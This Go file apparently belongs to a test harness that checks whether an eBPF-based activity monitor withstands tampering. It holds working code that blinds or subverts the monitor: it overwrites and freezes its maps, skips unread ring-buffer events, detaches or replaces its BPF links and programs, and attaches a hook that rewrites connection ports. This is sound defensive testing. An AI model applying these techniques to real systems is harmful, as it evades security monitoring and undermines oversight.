//go:build linux

package main

import (
	"errors"
	"fmt"
	"os"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

var onBPF = []attack{
	{name: "bpf scope map", what: "the map that holds the cgroup points to another one for a while", do: redirect},
	{name: "bpf counters", what: "the counters and the drops set to 0", do: overwrite("counters", "drops")},
	{name: "bpf scratch", what: "the records that are being built overwritten", do: overwrite("scratch")},
	{name: "bpf constants", what: "the programs' constants overwritten", do: overwrite(".rodata")},
	{name: "bpf rules", what: "the table of network rules overwritten, then a refused connection", do: overwrite("rules", "blocked"), flag: rules},
	{name: "bpf ring", what: "the ring's read position set past what was not yet read", do: moveRing},
	{name: "bpf ring back", what: "the same, and set back", do: moveRingBack},
	{name: "bpf freeze", what: "all of the capture's maps frozen", do: freeze},
	{name: "bpf detach links", what: "BPF_LINK_DETACH for each of the capture's links", do: eachLink(detachLink)},
	{name: "bpf update links", what: "BPF_LINK_UPDATE with a program of its own for each of them", do: eachLink(updateLink)},
	{name: "bpf detach programs", what: "BPF_PROG_DETACH of each of the capture's programs from the cgroup", do: detachPrograms},
	{name: "bpf own hook", what: "a program attached to the cgroup that changes the addresses of connections", do: ownHook},
	{name: "bpf tracing program", what: "a tracing program loaded and run", do: ownTracing},
	{name: "bpf by x32", what: "BPF_MAP_GET_FD_BY_ID with a number whose upper bits are set", do: upperBits},
}

var rules = []string{"--policy", "POLICY"}

const (
	cmdMapCreate, cmdLookup, cmdUpdate                 = 0, 1, 2
	cmdProgLoad, cmdProgAttach, cmdProgDetach          = 5, 8, 9
	cmdTestRun, cmdProgNext, cmdMapNext                = 10, 11, 12
	cmdProgByID, cmdMapByID, cmdInfo                   = 13, 14, 15
	cmdFreeze, cmdLinkUpdate, cmdLinkByID, cmdLinkNext = 22, 29, 30, 31
	cmdLinkDetach                                      = 34
)

func bpf(cmd uintptr, attr []uint32) (int, error) {
	full := make([]uint32, 40)
	copy(full, attr)
	r, _, e := unix.Syscall(unix.SYS_BPF, cmd, uintptr(unsafe.Pointer(&full[0])), 160)
	copy(attr, full)
	if e != 0 {
		return -1, fmt.Errorf("bpf: %w", e)
	}
	return int(r), nil
}

func pointer(p unsafe.Pointer) (lo, hi uint32) {
	return uint32(uintptr(p)), uint32(uint64(uintptr(p)) >> 32)
}

// mapInfo is struct bpf_map_info up to its name.
type mapInfo struct {
	kind, id, key, value, entries, flags uint32
	name                                 [16]byte
	pad                                  [64]byte
}

func info(fd int) (m mapInfo, err error) {
	lo, hi := pointer(unsafe.Pointer(&m))
	_, err = bpf(cmdInfo, []uint32{uint32(fd), uint32(unsafe.Sizeof(m)), lo, hi})
	return m, err
}

func (m *mapInfo) is(name string) bool {
	text := string(m.name[:])
	return len(name) <= len(text) && text[:len(name)] == name
}

// each calls f with a descriptor of every object that next and open find.
func each(next, open uintptr, f func(fd int)) error {
	attr := []uint32{0, 0}
	found := errors.New("bpf: no object is visible")
	for {
		if _, err := bpf(next, attr); err != nil {
			if errors.Is(err, unix.ENOENT) {
				return found
			}
			return err
		}
		id := attr[1]
		if fd, err := bpf(open, []uint32{id}); err == nil {
			f(fd)
			unix.Close(fd)
			found = nil
		} else if found != nil {
			found = err
		}
		attr[0] = id
	}
}

func eachMap(f func(fd int, m *mapInfo) error) error {
	var last error
	err := each(cmdMapNext, cmdMapByID, func(fd int) {
		if m, err := info(fd); err == nil {
			if err := f(fd, &m); err != nil {
				last = err
			}
		}
	})
	return errors.Join(err, last)
}

func put(fd int, key uint32, value unsafe.Pointer) error {
	klo, khi := pointer(unsafe.Pointer(&key))
	vlo, vhi := pointer(value)
	_, err := bpf(cmdUpdate, []uint32{uint32(fd), 0, klo, khi, vlo, vhi, 0, 0})
	return err
}

// redirect makes the probes follow another cgroup while the program acts.
func redirect(w *world) error {
	other, err := unix.Open(cgroupMount()+"/hostile-other", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		unix.Mkdir(cgroupMount()+"/hostile-other", 0o755)
		if other, err = unix.Open(cgroupMount()+"/hostile-other", unix.O_RDONLY|unix.O_DIRECTORY, 0); err != nil {
			return err
		}
	}
	defer unix.Rmdir(cgroupMount() + "/hostile-other")
	own, err := unix.Open(w.scope, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	return eachMap(func(fd int, m *mapInfo) error {
		if !m.is("scope") {
			return nil
		}
		v := uint32(other)
		if err := put(fd, 0, unsafe.Pointer(&v)); err != nil {
			return err
		}
		act(w.dir, "hidden")
		v = uint32(own)
		return put(fd, 0, unsafe.Pointer(&v))
	})
}

func clearMap(fd int) error {
	m, err := info(fd)
	if err != nil {
		return err
	}
	value := make([]byte, 1<<20)
	for i := range min(m.entries, 64) {
		if err := put(fd, i, unsafe.Pointer(&value[0])); err != nil {
			return err
		}
	}
	return nil
}

func overwrite(names ...string) func(*world) error {
	return func(w *world) error {
		return eachMap(func(fd int, m *mapInfo) (err error) {
			for _, n := range names {
				if m.is(n) {
					err = clearMap(fd)
				}
			}
			refused()
			return err
		})
	}
}

func ring(f func(cons, prod *uint64)) error {
	return eachMap(func(fd int, m *mapInfo) error {
		if !m.is("events") {
			return nil
		}
		page := os.Getpagesize()
		cons, err := unix.Mmap(fd, 0, page, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		if err != nil {
			return fmt.Errorf("mmap: %w", err)
		}
		prod, err := unix.Mmap(fd, int64(page), page, unix.PROT_READ, unix.MAP_SHARED)
		if err != nil {
			return fmt.Errorf("mmap: %w", err)
		}
		f((*uint64)(unsafe.Pointer(&cons[0])), (*uint64)(unsafe.Pointer(&prod[0])))
		return nil
	})
}

func moveRing(w *world) error {
	return ring(func(cons, prod *uint64) {
		for range 2000 {
			act(w.dir, "hidden")
			*cons = *prod
		}
	})
}

func moveRingBack(w *world) error {
	if w.stages["runner-capture"] == 0 {
		return errors.New("runner-capture is not visible")
	}
	unix.Kill(w.stages["runner-capture"], unix.SIGSTOP)
	defer unix.Kill(w.stages["runner-capture"], unix.SIGCONT)
	return ring(func(cons, prod *uint64) {
		before := *cons
		act(w.dir, "hidden")
		*cons = *prod
		act(w.dir, "hidden")
		*cons = before
	})
}

func freeze(*world) error {
	return eachMap(func(fd int, m *mapInfo) error {
		if !m.is("events") && !m.is("counters") && !m.is("marks") {
			return nil
		}
		_, err := bpf(cmdFreeze, []uint32{uint32(fd)})
		return err
	})
}

func eachLink(f func(fd int) error) func(*world) error {
	return func(w *world) error {
		n, last := 0, errors.New("bpf: no link")
		err := each(cmdLinkNext, cmdLinkByID, func(fd int) {
			if last = f(fd); last == nil {
				n++
			}
		})
		act(w.dir, "hidden")
		refused()
		if n > 0 {
			return err
		}
		return errors.Join(err, last)
	}
}

func detachLink(fd int) error {
	_, err := bpf(cmdLinkDetach, []uint32{uint32(fd)})
	return err
}

// Instructions of small programs.
const (
	movR0   = 0xb7 // r0 = imm
	exitOp  = 0x95 // exit
	license = "GPL\x00"
)

var pass = []uint64{movR0 | 1<<32, exitOp}

func load(kind uint32, expected uint32, code []uint64) (int, error) {
	text := []byte(license)
	ilo, ihi := pointer(unsafe.Pointer(&code[0]))
	llo, lhi := pointer(unsafe.Pointer(&text[0]))
	attr := []uint32{kind, uint32(len(code)), ilo, ihi, llo, lhi, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, expected}
	return bpf(cmdProgLoad, attr)
}

const (
	socketFilter, rawTracepoint, cgroupSockAddr = 1, 17, 18
	inet4Connect                                = 10
)

func updateLink(fd int) error {
	prog, err := load(cgroupSockAddr, inet4Connect, pass)
	if err != nil {
		return err
	}
	defer unix.Close(prog)
	_, err = bpf(cmdLinkUpdate, []uint32{uint32(fd), uint32(prog), 0, 0})
	return err
}

func detachPrograms(w *world) error {
	own, err := unix.Open(w.scope, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	last := errors.New("bpf: no program")
	err = each(cmdProgNext, cmdProgByID, func(fd int) {
		for kind := range uint32(60) {
			if _, e := bpf(cmdProgDetach, []uint32{uint32(own), uint32(fd), kind, 0}); e == nil {
				last = nil
			} else if last != nil {
				last = e
			}
		}
	})
	return errors.Join(err, last)
}

// ownHook attaches a program that gives every connection another port.
func ownHook(w *world) error {
	code := []uint64{
		0x62 | 1<<8 | 24<<16 | 0x0a00<<32, // ctx->user_port = 10
		movR0 | 1<<32, exitOp,
	}
	prog, err := load(cgroupSockAddr, inet4Connect, code)
	if err != nil {
		return err
	}
	own, err := unix.Open(w.scope, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	const allowMulti = 2
	_, err = bpf(cmdProgAttach, []uint32{uint32(own), uint32(prog), inet4Connect, allowMulti})
	refused()
	return err
}

func ownTracing(*world) error {
	prog, err := load(rawTracepoint, 0, []uint64{movR0, exitOp})
	if err != nil {
		return err
	}
	_, err = bpf(cmdTestRun, []uint32{uint32(prog)})
	return err
}

// upperBits makes the call with a number that equals it only in its lower half.
func upperBits(*world) error {
	attr := []uint32{0, 0}
	n := 0
	for {
		if _, err := bpf(cmdMapNext, attr); err != nil {
			break
		}
		full := make([]uint32, 40)
		full[0] = attr[1]
		if fd, _, e := unix.RawSyscall(uintptr(1)<<40|unix.SYS_BPF, cmdMapByID, uintptr(unsafe.Pointer(&full[0])), 160); e == 0 {
			unix.Close(int(fd))
			n++
		}
		attr[0] = attr[1]
	}
	if n == 0 {
		return errors.New("bpf: no map")
	}
	return nil
}

// refused connects to an address that the policy of the check refuses.
func refused() {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	unix.SetNonblock(fd, true)
	unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 9}, Port: 9})
	time.Sleep(time.Millisecond)
	unix.Close(fd)
}

// harmlessBPF is what ordinary programs do with bpf().
func harmlessBPF(*world) error {
	m, err := bpf(cmdMapCreate, []uint32{2, 4, 8, 16, 0})
	if err != nil {
		return err
	}
	value := uint64(1)
	if err := put(m, 3, unsafe.Pointer(&value)); err != nil {
		return err
	}
	if _, err = load(socketFilter, 0, []uint64{movR0, exitOp}); err != nil {
		return err
	}
	const device, cgroupDevice = 15, 6
	prog, err := load(device, cgroupDevice, pass)
	if err == nil {
		unix.Close(prog)
	}
	return err
}
